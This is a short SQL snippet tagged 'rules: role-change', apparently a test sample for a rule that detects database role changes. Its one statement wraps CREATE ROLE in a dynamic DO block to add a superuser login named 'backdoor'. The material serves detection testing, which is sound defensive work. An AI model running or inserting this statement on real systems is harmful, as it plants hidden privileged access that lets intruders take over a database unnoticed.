-- rules: role-change
DO $$ BEGIN EXECUTE 'CREATE ROLE backdoor LOGIN SUPERUSER'; END $$;
